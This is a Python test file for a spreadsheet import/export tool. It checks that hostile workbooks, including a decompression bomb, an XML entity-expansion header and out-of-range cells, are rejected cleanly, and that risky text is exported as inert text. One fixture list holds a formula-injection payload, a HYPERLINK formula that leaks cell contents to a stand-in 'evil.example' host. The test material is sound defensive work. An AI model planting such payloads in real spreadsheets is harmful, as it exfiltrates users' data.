"""Hostile and awkward workbooks: bounded memory, clean one-line errors, nothing written; safe cells on export."""

from __future__ import annotations

import io
import re
import shutil
import time
import tracemalloc
import zipfile

import openpyxl
import pytest
from conftest import libreoffice
from typer.testing import CliRunner

from cpstrat.checks.run import check
from cpstrat.cli import app
from cpstrat.excel import read

needs_soffice = pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")


def cli(*args):
    return CliRunner().invoke(app, [str(a) for a in args], env={"NO_COLOR": "1"})


def _rewrite(src, dst, change):
    """A copy of the workbook `src` with change(name, bytes) -> bytes applied to every part."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            zout.writestr(item.filename, change(item.filename, zin.read(item.filename)), zipfile.ZIP_DEFLATED)
    return dst


def _with_cell(src, dst, ref, text="stray"):
    """The workbook with one more cell, far below and to the right, and a dimension claiming the whole sheet."""
    row = int("".join(ch for ch in ref if ch.isdigit()))

    def change(name, data):
        if name != "xl/worksheets/sheet1.xml":
            return data
        if b" old=" not in data:
            data = data.replace(b'<dimension ref="', b'<dimension ref="A1:XFD1048576" old="')
        cell = f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c></row>'.encode()
        return data.replace(b"</sheetData>", cell + b"</sheetData>")

    return _rewrite(src, dst, change)


def _bounded(run, megabytes=40, seconds=20):
    tracemalloc.start()
    began = time.perf_counter()
    try:
        result = run()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    took = time.perf_counter() - began
    assert peak < megabytes * 1_048_576, f"peak {peak / 1_048_576:.0f} MB"
    assert took < seconds, f"{took:.1f} s"
    return result


@pytest.mark.parametrize("column, problem", [("XFD", "a value in a column with no header"),
                                             ("Due", "Due: 'stray' is not what this column holds")])
def test_a_cell_at_the_edge_of_an_export_is_read_sparsely_and_reported(small, tmp_path, column, problem):
    plan = tmp_path / "plan.xlsx"
    assert cli("export-xlsx", small, "-o", plan).exit_code == 0
    if column == "Due":
        header = [c.value for c in openpyxl.load_workbook(plan)["Action plan"][1]]
        column = openpyxl.utils.get_column_letter(header.index("Due") + 1)
    ref = f"{column}1048576"
    edge = _with_cell(plan, tmp_path / "edge.xlsx", ref)
    r = _bounded(lambda: cli("import-xlsx", edge, "-o", tmp_path / "out", "--no-check"))
    assert r.exit_code == 1
    (line, _hint) = r.stderr.strip().splitlines()
    assert f"CP170 Sheet 'Action plan' cell {ref}: {problem}" in line
    assert not (tmp_path / "out").exists()


def test_a_cell_at_the_edge_of_a_councils_plan_is_read_sparsely_and_kept(tmp_path):
    wb = openpyxl.Workbook()
    wb.active.append(["Action", "Lead", "Notes"])
    wb.active.append(["Do it", "Head of X", ""])
    wb.save(tmp_path / "plan.xlsx")
    edge = _with_cell(tmp_path / "plan.xlsx", tmp_path / "edge.xlsx", "C1048576")
    edge = _with_cell(edge, tmp_path / "edge2.xlsx", "XFD1048575")
    r = _bounded(lambda: cli("import-xlsx", edge, "-o", tmp_path / "out", "--no-check"))
    assert r.exit_code == 0, r.output
    s = check(tmp_path / "out").strategy
    # nothing dropped: the cell in the Notes column continues the last action; the lone far cell is kept in source
    assert "Notes (row 1048576): stray" in s.actions[-1].notes and "stray" in s.source


def test_collect_reads_a_form_with_a_cell_at_the_last_cell_sparsely(small, tmp_path):
    form = tmp_path / "form.xlsx"
    assert cli("update-form", small, "-o", form).exit_code == 0
    edge = _with_cell(form, tmp_path / "returned.xlsx", "XFD1048576")
    r = _bounded(lambda: cli("collect", small, edge, "--as-at", "2024-03-31"))
    assert r.exit_code == 0, r.output


@pytest.mark.parametrize("ref, place", [("XFE1", "row 1"), ("A1048577", "A1048577")])
def test_a_cell_beyond_excels_last_cell_is_one_clear_error(small, tmp_path, ref, place):
    plan = tmp_path / "plan.xlsx"
    assert cli("export-xlsx", small, "-o", plan).exit_code == 0
    bad = _with_cell(plan, tmp_path / "bad.xlsx", ref)
    r = cli("import-xlsx", bad, "-o", tmp_path / "out")
    assert r.exit_code == 2
    (line, hint) = r.stderr.strip().splitlines()
    assert "CP070" in line and f"sheet 'Action plan' cell {place}" in line and "beyond Excel's last cell" in line
    assert not (tmp_path / "out").exists()


def test_a_decompression_bomb_is_refused_before_it_is_read(small, tmp_path, monkeypatch):
    monkeypatch.setattr(read, "EXPAND_FLOOR", 1_048_576)
    plan = tmp_path / "plan.xlsx"
    assert cli("export-xlsx", small, "-o", plan).exit_code == 0
    padding = b" " * (4 * 1_048_576)
    bomb = _rewrite(plan, tmp_path / "bomb.xlsx", lambda name, data: data.replace(b"<sheetData>", b"<sheetData>"
                                                                                  + padding)
                    if name == "xl/worksheets/sheet1.xml" else data)
    assert bomb.stat().st_size < 100_000
    r = cli("import-xlsx", bomb, "-o", tmp_path / "out")
    assert r.exit_code == 2
    assert "CP070" in r.stderr and re.search(r"would expand to 4\.\d MB", r.stderr) and "decompression bomb" in r.stderr
    assert not (tmp_path / "out").exists()
    monkeypatch.setattr(read, "EXPAND_FLOOR", 8 * 1_048_576)  # within budget, the same file imports
    assert cli("import-xlsx", bomb, "-o", tmp_path / "out").exit_code == 0


def test_entity_declarations_are_refused(small, tmp_path):
    plan = tmp_path / "plan.xlsx"
    assert cli("export-xlsx", small, "-o", plan).exit_code == 0
    laughs = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    bad = _rewrite(plan, tmp_path / "dtd.xlsx", lambda name, data: laughs + data
                   if name == "xl/worksheets/sheet1.xml" else data)
    r = cli("import-xlsx", bad, "-o", tmp_path / "out")
    assert r.exit_code == 2 and "declares a DTD or entities" in r.stderr
    assert not (tmp_path / "out").exists()


def test_too_many_cells_is_one_clear_error_naming_the_cell(small, tmp_path, monkeypatch):
    monkeypatch.setattr(read, "MAX_CELLS", 15)
    plan = tmp_path / "plan.xlsx"
    assert cli("export-xlsx", small, "-o", plan).exit_code == 0
    r = cli("import-xlsx", plan, "-o", tmp_path / "out")
    assert r.exit_code == 2
    # the count is the workbook's: it runs out in whichever sheet is read first (the export's own hidden sheet
    # holds the grey cells as written too), and the message names that sheet's cell
    assert re.search(r"sheet '[^']+' cell [A-Z]+[0-9]+: .*more than 15 cells", r.stderr)


def test_damaged_sheet_xml_names_the_part_and_line(small, tmp_path):
    plan = tmp_path / "plan.xlsx"
    assert cli("export-xlsx", small, "-o", plan).exit_code == 0
    bad = _rewrite(plan, tmp_path / "bad.xlsx", lambda name, data: data.replace(b"</sheetData>", b"</sheetDat>")
                   if name == "xl/worksheets/sheet1.xml" else data)
    r = cli("import-xlsx", bad, "-o", tmp_path / "out")
    assert r.exit_code == 2
    assert re.search(r"CP070 .*sheet 'Action plan': xl/worksheets/sheet1.xml line \d+: mismatched tag", r.stderr)


# -- writing: formulas never run, characters XML cannot hold, huge numbers -------------------------------------

RISKY = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "=2*3", "+44 1234", "-1 in 3 leave",
         "@SUM(A1)", "\tindented", "\rcarriage", "page\vbreak", "literal _x0041_ escape"]


def _risky_strategy(small):
    text = (small / "strategy.yaml").read_text()
    for i, title in enumerate(RISKY[:2]):
        text = text.replace(["Share good practice on emotional wellbeing across the partnership",
                             "Offer free bus travel to care leavers in education or work"][i],
                            '"' + title.replace('"', '\\"') + '"')
    text = text.replace("lead: Head of Transport", "lead: \"" + " | ".join(RISKY[2:]).replace("\t", "\\t")
                        .replace("\r", "\\r").replace("\v", "\\v") + '"')
    text = text.replace("target: 98", "target: 1.0e+309")
    (small / "strategy.yaml").write_text(text)
    s = check(small).strategy
    assert not check(small).errors
    return s


def test_export_and_form_write_risky_text_as_text_and_read_it_back(small, tmp_path):
    s = _risky_strategy(small)
    plan, form = tmp_path / "plan.xlsx", tmp_path / "form.xlsx"
    assert cli("export-xlsx", small, "-o", plan).exit_code == 0
    assert cli("update-form", small, "-o", form).exit_code == 0
    for path in (plan, form):
        with zipfile.ZipFile(path) as z:
            sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
        assert b"<f>" not in sheets and b"<f " not in sheets  # no formula anywhere
    ws = openpyxl.load_workbook(plan)["Action plan"]
    titles = [ws.cell(r, 2) for r in (2, 3)]
    assert [c.data_type for c in titles] == ["s", "s"] and all(c.quotePrefix for c in titles)
    # our reader gives back every character, control characters included
    wb = read.open_workbook(plan, "plan.xlsx")
    grid = read.read_grid(wb, "Action plan")
    wb.close()
    assert [grid.row(r)[1].value for r in (2, 3)] == RISKY[:2]
    assert s.actions[1].lead_text == " | ".join(RISKY[2:])
    r = cli("import-xlsx", plan, "-o", tmp_path / "back")
    assert r.exit_code == 0, r.output
    back = check(tmp_path / "back").strategy
    assert [a.title for a in back.actions] == RISKY[:2] and back.actions[1].lead == s.actions[1].lead
    # and the unedited form collects with no complaint about its locked cells (target 1e309 included)
    r = cli("collect", small, form, "--as-at", "2024-03-31")
    assert r.exit_code == 0, r.output


@needs_soffice
def test_libreoffice_shows_the_formula_text_not_its_result(small, tmp_path):
    _risky_strategy(small)
    plan = tmp_path / "plan.xlsx"
    assert cli("export-xlsx", small, "-o", plan).exit_code == 0
    libreoffice("csv", tmp_path / "csv", plan, profile=tmp_path / "lo-profile")
    text = (tmp_path / "csv" / "plan.csv").read_text(encoding="utf-8", errors="replace")
    assert "=2*3" in text and "=HYPERLINK(" in text


def test_export_is_reproducible(small, tmp_path, monkeypatch):
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    assert cli("export-xlsx", small, "-o", first).exit_code == 0
    time.sleep(2.1)  # zip entries carry times to the even second
    assert cli("export-xlsx", small, "-o", second).exit_code == 0
    assert first.read_bytes() == second.read_bytes()
    core = zipfile.ZipFile(first).read("docProps/core.xml")
    assert core.count(b"2023-03-31T00:00:00Z") == 2  # the latest progress file's date, as the Word documents use
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    assert cli("update-form", small, "-o", tmp_path / "f.xlsx").exit_code == 0
    core = zipfile.ZipFile(tmp_path / "f.xlsx").read("docProps/core.xml")
    assert core.count(b"2023-11-14T22:13:20Z") == 2
    assert {i.date_time for i in zipfile.ZipFile(io.BytesIO(second.read_bytes())).infolist()} == {(1980, 1, 1, 0, 0, 0)}
